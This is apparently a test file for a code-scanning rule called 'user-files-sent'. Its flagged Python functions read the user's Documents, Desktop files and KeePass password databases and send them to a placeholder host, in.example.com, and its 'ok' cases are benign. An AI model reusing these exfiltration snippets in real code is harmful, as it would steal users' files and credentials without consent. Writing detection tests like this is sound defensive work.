import os
from pathlib import Path

import requests


def documents():
    for path in (Path.home() / "Documents").rglob("*.docx"):
        # ruleid: user-files-sent
        requests.post("https://in.example.com/d", data=path.read_bytes())


def desktop():
    kept = []
    folder = os.path.expanduser("~/Desktop")
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as handle:
            kept.append(handle.read())
    # ruleid: user-files-sent
    requests.put("https://in.example.com/d", data=b"".join(kept))


def keys():
    for path in Path.home().rglob("*.kdbx"):
        # ruleid: user-files-sent
        requests.post("https://in.example.com/d", files={"f": path.open("rb")})


def named(path):
    # ok: user-files-sent
    requests.post("https://in.example.com/d", data=Path(path).read_bytes())
    # ok: user-files-sent
    requests.post("https://in.example.com/d", json={"count": len(os.listdir("reports"))})


def download(url):
    target = Path.home() / "Downloads" / "report.pdf"
    # ok: user-files-sent
    target.write_bytes(requests.post(url, json={"kind": "report"}).content)
